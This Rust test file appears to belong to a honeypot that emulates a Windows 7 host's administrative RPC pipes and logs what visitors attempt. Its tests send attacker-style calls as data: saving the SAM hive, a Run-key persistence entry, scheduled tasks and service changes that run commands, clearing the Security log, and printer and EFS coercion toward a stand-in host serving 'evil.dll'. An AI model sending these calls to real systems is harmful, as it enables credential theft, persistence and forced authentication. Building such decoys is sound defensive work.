//! What administrators do over pipes: the registry, tasks, services, printers, logs.

use super::super::super::disk::View;
use super::super::interface::Interface;
use super::super::ndr::Results;
use super::*;

/// Calls over one pipe to one interface, each with what it told.
struct Pipe<'a> {
    caller: Caller<'a>,
    states: States,
    interface: Interface,
    events: Vec<Event>,
}

impl<'a> Pipe<'a> {
    fn new(caller: Caller<'a>, interface: Interface) -> Self {
        Self { caller, states: States::default(), interface, events: Vec::new() }
    }

    fn call(&mut self, operation: u16, stub: &[u8]) -> Answer {
        let known = find_pipe("lsarpc", true, true).unwrap();
        self.states.call((known, self.interface), &self.caller, operation, stub, &mut self.events)
    }

    fn says(&mut self, operation: u16, write: impl FnOnce(&mut Results) -> &mut Results) -> Vec<u8> {
        self.call(operation, &with(&[], write)).unwrap()
    }

    fn told(&self) -> Vec<&str> {
        self.events.iter().map(|event| event.msg.as_str()).collect()
    }
}

/// A name as the registry is asked for one.
fn named<'a>(out: &'a mut Results, name: &str) -> &'a mut Results {
    let text = format!("{name}\0");
    out.name(&text).name_text(&text)
}

fn opened(pipe: &mut Pipe<'_>, root: &[u8], name: &str) -> (Vec<u8>, u32) {
    let opened = pipe.says(15, |out| named(out.put(root), name).long(0).long(0x0200_0000));
    (opened[..20].to_vec(), status(&opened))
}

#[test]
fn the_registry_is_that_of_a_windows_7_and_its_secrets_are_not_given_away() {
    let host = host("");
    let mut pipe = Pipe::new(caller(&host, "eve"), Interface::Winreg);
    let root = pipe.says(2, |out| out.long(0).long(0x0200_0000))[..20].to_vec();
    let (key, _) = opened(&mut pipe, &root, "Software\\Microsoft\\Windows NT\\CurrentVersion");
    let query = |pipe: &mut Pipe<'_>, name: &str, room: u32| {
        pipe.says(17, |out| {
            named(out.put(&key), name).pointer().long(0).pointer().long(0).long(0).long(0).pointer().long(room)
        })
    };
    let product = query(&mut pipe, "productname", 100);
    assert!(status(&product) == 0 && shows(&product, "Windows 7 Professional"));
    assert_eq!((status(&query(&mut pipe, "ProductName", 4)), status(&query(&mut pipe, "none", 4))), (234, 2));
    let (boot, _) = opened(&mut pipe, &root, "SYSTEM\\ControlSet001\\Control\\Lsa\\JD");
    assert_eq!(pipe.says(16, |out| named(out.put(&boot), ""))[0], 18, "its class is a part of the boot key");
    assert_eq!((opened(&mut pipe, &root, "SECURITY").1, opened(&mut pipe, &root, "nothere").1), (5, 2));
    let (sam, _) = opened(&mut pipe, &root, "SAM");
    assert_eq!(status(&pipe.says(20, |out| named(out.put(&sam), "abc.tmp").long(0))), 5);
    assert_eq!(pipe.told(), ["registry: HKLM\\SAM to be saved as abc.tmp"]);
    assert_eq!(pipe.events[0].kind, "command");
    assert_eq!(status(&pipe.says(5, |out| out.put(&sam))), 0);
    assert_eq!(status(&pipe.says(5, |out| out.put(&sam))), 6, "closed twice");
    assert_eq!(Pipe::new(caller(&host, ""), Interface::Winreg).call(2, &[0; 8]), Err(DENIED), "nobody");
}

#[test]
fn what_a_visitor_sets_in_the_registry_it_finds_in_its_next_session() {
    let host = host("");
    let eve = caller(&host, "eve");
    let mut pipe = Pipe::new(eve, Interface::Winreg);
    let root = pipe.says(2, |out| out.long(0).long(0x0200_0000))[..20].to_vec();
    let (run, _) = opened(&mut pipe, &root, "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run");
    let set = pipe.says(22, |out| named(out.put(&run), "Updater").long(1).long(6).put(b"x\0y\0\0\0").align(4).long(6));
    assert_eq!(status(&set), 0);
    assert_eq!(pipe.told(), ["registry: set HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"]);
    let list = |pipe: &mut Pipe<'_>, number: u32| {
        let root = pipe.says(2, |out| out.long(0).long(0x0200_0000))[..20].to_vec();
        let (run, _) = opened(pipe, &root, "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run");
        pipe.says(10, |out| out.put(&run).long(number).long(0).long(0).long(0).long(0).long(0).long(0))
    };
    let mut next = Pipe::new(Caller { seed: 8, ..eve }, Interface::Winreg);
    assert!(shows(&list(&mut next, 0), "Updater") && status(&list(&mut next, 1)) == 259);
    let elsewhere = Caller { source: IpAddr::from([198, 51, 100, 7]), ..eve };
    assert_eq!(status(&list(&mut Pipe::new(elsewhere, Interface::Winreg), 0)), 259, "another source does not");
}

#[test]
fn a_task_is_recorded_and_what_it_printed_lies_where_it_says() {
    let host = host("");
    let eve = caller(&host, "eve");
    let mut pipe = Pipe::new(eve, Interface::Tasks);
    let xml = "<Task><Actions><Exec><Command>cmd.exe</Command><Arguments>/C whoami &gt; %windir%\\Temp\\x.tmp 2&gt;&amp;1</Arguments></Exec></Actions></Task>";
    let made = pipe.says(1, |out| out.pointer().text("\\x").text(xml).long(2).long(0).long(0).long(0).long(0));
    assert!(status(&made) == 0 && shows(&made, "\\x"));
    assert_eq!(status(&pipe.says(16, |out| out.text("\\x"))), 0x0004_1303, "it has not run");
    assert_eq!(status(&pipe.says(12, |out| out.text("\\x").long(0).long(0).long(0).long(0).long(0))), 0);
    let ran = pipe.says(16, |out| out.text("\\x"));
    assert_eq!((ran.le16(0), status(&ran)), (Some(2023), 0));
    assert_eq!(
        (status(&pipe.says(13, |out| out.text("\\x").long(0))), status(&pipe.says(12, |out| out.text("\\x")))),
        (0, 0x8007_0002)
    );
    let command = "cmd.exe /C whoami > %windir%\\Temp\\x.tmp 2>&1";
    assert_eq!(
        pipe.told(),
        [format!("task \"\\\\x\" registered: {command}"), format!("task \"\\\\x\" run: {command}")]
    );
    let share = Host::share("ADMIN$").unwrap();
    let printed = host
        .visitors
        .with(eve.source, eve.now, |visitor| View { host: &host, share, visitor }.read("Temp\\x.tmp", 0, 99));
    assert_eq!(printed.unwrap(), b"nt authority\\system\r\n");
}

#[test]
fn a_job_of_the_old_scheduler_is_recorded() {
    let host = host("");
    let mut pipe = Pipe::new(caller(&host, "eve"), Interface::Atsvc);
    let added = pipe.says(0, |out| out.long(0).long(3_600_000).long(0).long(0).pointer().text("calc.exe"));
    assert_eq!((added.le32(0), status(&added)), (Some(1), 0));
    assert_eq!(pipe.told(), ["job scheduled: calc.exe"]);
}

#[test]
fn nobody_is_called_and_nothing_fetched_for_who_wants_the_machine_to_log_in_elsewhere() {
    let host = host("");
    let eve = caller(&host, "eve");
    let mut pipe = Pipe::new(eve, Interface::Spoolss);
    assert_eq!(status(&pipe.says(1, |out| out.pointer().text("\\\\x\\printer").long(0).long(0).long(0).long(0))), 1801);
    let printer = pipe.says(1, |out| out.pointer().text("\\\\x").long(0).long(0).long(0).long(0))[..20].to_vec();
    let notified =
        pipe.says(65, |out| out.put(&printer).long(0x100).long(0).pointer().text("\\\\192.0.2.9").long(0).long(0));
    let installed =
        pipe.says(89, |out| out.long(0).long(2).long(2).text("1234").text("\\\\192.0.2.9\\s\\evil.dll").long(0x8014));
    assert_eq!((status(&notified), status(&installed)), (1722, 53));
    let driver = "printer driver to be installed: \\\\192.0.2.9\\s\\evil.dll";
    assert_eq!(pipe.told(), ["printer notification: to call \\\\192.0.2.9", driver]);
    let mut pipe = Pipe::new(eve, Interface::Efsrpc);
    let raw = |out: &mut Results| out.text("\\\\192.0.2.9\\s\\x").long(0).whole();
    let opened = pipe.call(0, &raw(&mut Results::default())).unwrap();
    assert_eq!((opened.len(), status(&opened)), (24, 53), "a network path that is not found");
    let mut pipe = Pipe::new(caller(&host, ""), Interface::Efsrpc);
    assert_eq!(pipe.call(0, &raw(&mut Results::default())), Err(DENIED));
    assert_eq!(pipe.told(), ["EfsRpcOpenFileRaw of \\\\192.0.2.9\\s\\x"], "recorded, too");
}

#[test]
fn drivers_are_listed_in_the_room_there_is_for_them() {
    let host = host("");
    let mut pipe = Pipe::new(caller(&host, "eve"), Interface::Spoolss);
    let mut list = |environment: &str, room: u32| {
        let answer = pipe.says(10, |out| {
            out.long(0)
                .pointer()
                .text(environment)
                .long(2)
                .pointer()
                .long(room)
                .put(&vec![0; room as usize])
                .align(4)
                .long(room)
        });
        let at = answer.len() - 12;
        (answer.le32(at).unwrap(), answer.le32(at + 4).unwrap(), status(&answer))
    };
    let (needed, none, refused) = list("Windows x64", 0);
    assert_eq!((none, refused), (0, 122));
    assert_eq!(list("Windows x64", needed), (needed, 1, 0));
    assert_eq!(list("Windows NT x86", 0), (0, 0, 0));
}

#[test]
fn a_log_that_is_cleared_is_told_of() {
    let host = host("");
    let mut pipe = Pipe::new(caller(&host, "eve"), Interface::Eventlog);
    let log =
        pipe.says(7, |out| out.long(0).name("Security").name_text("Security").name("").long(1).long(1))[..20].to_vec();
    assert_eq!(pipe.says(4, |out| out.put(&log)), [0; 8], "no record");
    assert_eq!(status(&pipe.says(10, |out| out.put(&log).long(5).long(0).long(100))), 0xc000_0011);
    assert_eq!(pipe.says(0, |out| out.put(&log).long(0)), [0; 4]);
    assert_eq!(pipe.told(), ["event log Security cleared"]);
    assert_eq!(pipe.call(4, &[1; 20]), Err(BAD_HANDLE));
}

#[test]
fn a_service_of_windows_that_is_given_another_command_runs_that() {
    let host = host("");
    let mut pipe = Pipe::new(caller(&host, "eve"), Interface::Svcctl);
    let manager = pipe.says(15, |out| out.long(0).long(0).long(1))[..20].to_vec();
    let service = pipe.says(16, |out| out.put(&manager).text("seclogon").long(1))[..20].to_vec();
    let changed = pipe.says(11, |out| out.put(&service).long(16).long(3).long(0).pointer().text("cmd /c calc").long(0));
    assert_eq!(status(&changed), 0);
    assert_eq!(status(&pipe.says(19, |out| out.put(&service).long(0).long(0))), 1053);
    assert_eq!(pipe.told(), ["service \"seclogon\" changed: cmd /c calc", "service \"seclogon\" started: cmd /c calc"]);
}

#[test]
fn paths_are_compared_as_after_ms08_067() {
    let host = host("");
    let mut pipe = Pipe::new(caller(&host, ""), Interface::Srvsvc);
    let mut compare = |one: &str, other: &str| {
        status(&pipe.says(32, |out| out.pointer().text("x").text(one).text(other).long(1).long(0)))
    };
    assert_eq!((compare("\\a", "\\A"), compare("\\a", "\\b"), compare("\\b", "\\a")), (0, u32::MAX, 1));
    assert_eq!(compare("\\AAAAAAAAAA..", "\\\\AAAAAAAAA"), 123, "what scanners tell a patched machine by");
}

#[test]
fn a_service_is_found_by_every_session_of_its_source_until_it_is_deleted() {
    let host = host("");
    let eve = caller(&host, "eve");
    let mut pipe = Pipe::new(eve, Interface::Svcctl);
    let create = |pipe: &mut Pipe<'_>, name: &str| {
        pipe.says(12, |out| out.put(&[0; 20]).text(name).long(0).long(0).long(16).long(3).long(0).text("calc.exe"))
    };
    assert_eq!((status(&create(&mut pipe, "up")), status(&create(&mut pipe, "UP"))), (0, 1073));
    assert_eq!(status(&create(&mut pipe, "Spooler")), 1073, "one of every Windows");
    let mut next = Pipe::new(Caller { seed: 8, ..eve }, Interface::Svcctl);
    let opened = next.says(16, |out| out.put(&[0; 20]).text("up").long(1));
    assert_eq!((status(&opened), status(&next.says(2, |out| out.put(&opened[..20])))), (0, 0));
    assert_eq!(status(&next.says(16, |out| out.put(&[0; 20]).text("up").long(1))), 1060);
}
